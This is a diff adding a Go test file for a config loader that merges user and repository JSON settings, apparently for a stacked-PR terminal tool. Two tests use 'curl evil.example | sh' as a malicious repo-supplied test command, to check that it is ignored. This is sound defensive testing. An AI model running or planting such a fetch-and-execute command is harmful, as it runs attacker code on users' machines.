@@ -0,0 +1,216 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+)
+
+func writeFile(t *testing.T, dir, name, content string) string {
+	t.Helper()
+	path := filepath.Join(dir, name)
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	return path
+}
+
+func TestLoad_NoFiles(t *testing.T) {
+	cfg, err := Load(filepath.Join(t.TempDir(), "missing.json"), "")
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if !reflect.DeepEqual(cfg, Config{}) {
+		t.Errorf("got %+v, want zero config", cfg)
+	}
+}
+
+func TestLoad_LaterFileOverrides(t *testing.T) {
+	dir := t.TempDir()
+	user := writeFile(t, dir, "user.json", `{"path": "services/web"}`)
+	repo := writeFile(t, dir, "repo.json", `{"path": "services/api"}`)
+
+	cfg, err := Load(user, repo)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.Path != "services/api" {
+		t.Errorf("Path = %q, want %q", cfg.Path, "services/api")
+	}
+}
+
+func TestLoad_AbsentFieldKeepsEarlierValue(t *testing.T) {
+	dir := t.TempDir()
+	user := writeFile(t, dir, "user.json", `{"path": "services/web"}`)
+	repo := writeFile(t, dir, "repo.json", `{}`)
+
+	cfg, err := Load(user, repo)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.Path != "services/web" {
+		t.Errorf("Path = %q, want %q", cfg.Path, "services/web")
+	}
+}
+
+func TestLoadForRepo_IgnoresRepoTestCommand(t *testing.T) {
+	dir := t.TempDir()
+	user := writeFile(t, dir, "user.json", `{"testCommand": "go test ./..."}`)
+	repo := writeFile(t, dir, "repo.json", `{"path": "services/api", "testCommand": "curl evil.example | sh"}`)
+
+	cfg, err := LoadForRepo(user, repo)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.TestCommand != "go test ./..." {
+		t.Errorf("TestCommand = %q, want the user config's", cfg.TestCommand)
+	}
+	if cfg.Path != "services/api" {
+		t.Errorf("Path = %q, want the repo file's other settings applied", cfg.Path)
+	}
+
+	cfg, err = LoadForRepo("", repo)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.TestCommand != "" {
+		t.Errorf("TestCommand = %q, want none from the repo file alone", cfg.TestCommand)
+	}
+}
+
+func TestLoadForRepo_IgnoresRepoPreflightTestCommand(t *testing.T) {
+	dir := t.TempDir()
+	user := writeFile(t, dir, "user.json", `{"preflight": {"testCommand": "make check"}}`)
+	repo := writeFile(t, dir, "repo.json", `{"preflight": {"enabled": true, "testCommand": "curl evil.example | sh"}}`)
+
+	cfg, err := LoadForRepo(user, repo)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.Preflight.TestCommand != "make check" {
+		t.Errorf("Preflight.TestCommand = %q, want the user config's", cfg.Preflight.TestCommand)
+	}
+	if !cfg.Preflight.Enabled {
+		t.Error("the repo file should still be able to enable pre-flight checks")
+	}
+}
+
+func TestLoad_IgnorePatterns(t *testing.T) {
+	path := writeFile(t, t.TempDir(), "repo.json", `{"ignore": ["vendor/", "*.snap"]}`)
+
+	cfg, err := Load(path)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if want := []string{"vendor/", "*.snap"}; !reflect.DeepEqual(cfg.Ignore, want) {
+		t.Errorf("Ignore = %v, want %v", cfg.Ignore, want)
+	}
+}
+
+func TestLoad_Malformed(t *testing.T) {
+	path := writeFile(t, t.TempDir(), "bad.json", `{"path": `)
+
+	_, err := Load(path)
+	if err == nil {
+		t.Fatal("expected error, got nil")
+	}
+	if !strings.Contains(err.Error(), path) {
+		t.Errorf("error should name the file, got: %v", err)
+	}
+}
+
+func TestUserPath_XDG(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", "/tmp/xdg")
+	if got, want := UserPath(), filepath.Join("/tmp/xdg", "grit", "config.json"); got != want {
+		t.Errorf("UserPath() = %q, want %q", got, want)
+	}
+}
+
+func TestInlineLines(t *testing.T) {
+	if got := (Config{}).InlineLines(); got != DefaultInlineHeight {
+		t.Errorf("InlineLines() = %d, want default %d", got, DefaultInlineHeight)
+	}
+	if got := (Config{InlineHeight: 8}).InlineLines(); got != 8 {
+		t.Errorf("InlineLines() = %d, want 8", got)
+	}
+}
+
+func TestPollEvery(t *testing.T) {
+	for seconds, want := range map[int]time.Duration{0: 0, -5: 0, 5: MinPollInterval * time.Second, 60: time.Minute} {
+		if got := (Config{PollInterval: seconds}).PollEvery(); got != want {
+			t.Errorf("PollEvery() with %d = %v, want %v", seconds, got, want)
+		}
+	}
+}
+
+func TestOpensPRsInGraphite(t *testing.T) {
+	for value, want := range map[string]bool{"": false, "github": false, "graphite": true, "Graphite": true} {
+		if got := (Config{OpenPRIn: value}).OpensPRsInGraphite(); got != want {
+			t.Errorf("OpenPRIn %q: OpensPRsInGraphite() = %v, want %v", value, got, want)
+		}
+	}
+}
+
+func TestLoad_KeysMergeAcrossFiles(t *testing.T) {
+	dir := t.TempDir()
+	user := writeFile(t, dir, "user.json", `{"keys": {"stackSubmit": ["ctrl+s"], "restack": ["R"]}}`)
+	repo := writeFile(t, dir, "repo.json", `{"keys": {"restack": ["ctrl+r"]}}`)
+
+	cfg, err := Load(user, repo)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	want := map[string][]string{"stackSubmit": {"ctrl+s"}, "restack": {"ctrl+r"}}
+	if !reflect.DeepEqual(cfg.Keys, want) {
+		t.Errorf("Keys = %v, want %v", cfg.Keys, want)
+	}
+}
+
+func TestProfile_RoundTrip(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "profile.json")
+	p := Profile{
+		Keys:  map[string][]string{"quit": {"q", "ctrl+c"}},
+		Theme: map[string]string{"accent": "4"},
+	}
+	if err := WriteProfile(path, p); err != nil {
+		t.Fatal(err)
+	}
+	got, err := LoadProfile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(got, p) {
+		t.Errorf("LoadProfile = %+v, want %+v", got, p)
+	}
+}
+
+func TestLoadProfile_Malformed(t *testing.T) {
+	path := writeFile(t, t.TempDir(), "profile.json", `{"keys": [}`)
+	_, err := LoadProfile(path)
+	if err == nil || !strings.Contains(err.Error(), path) {
+		t.Errorf("error should name the file, got %v", err)
+	}
+}
+
+func TestWithProfile_ConfigWins(t *testing.T) {
+	cfg := Config{
+		Keys:  map[string][]string{"restack": {"R"}},
+		Theme: map[string]string{"error": "9"},
+	}
+	p := Profile{
+		Keys:  map[string][]string{"restack": {"ctrl+r"}, "sync": {"Y"}},
+		Theme: map[string]string{"error": "1", "accent": "4"},
+	}
+	got := cfg.WithProfile(p)
+	wantKeys := map[string][]string{"restack": {"R"}, "sync": {"Y"}}
+	wantTheme := map[string]string{"error": "9", "accent": "4"}
+	if !reflect.DeepEqual(got.Keys, wantKeys) {
+		t.Errorf("Keys = %v, want %v", got.Keys, wantKeys)
+	}
+	if !reflect.DeepEqual(got.Theme, wantTheme) {
+		t.Errorf("Theme = %v, want %v", got.Theme, wantTheme)
+	}
+}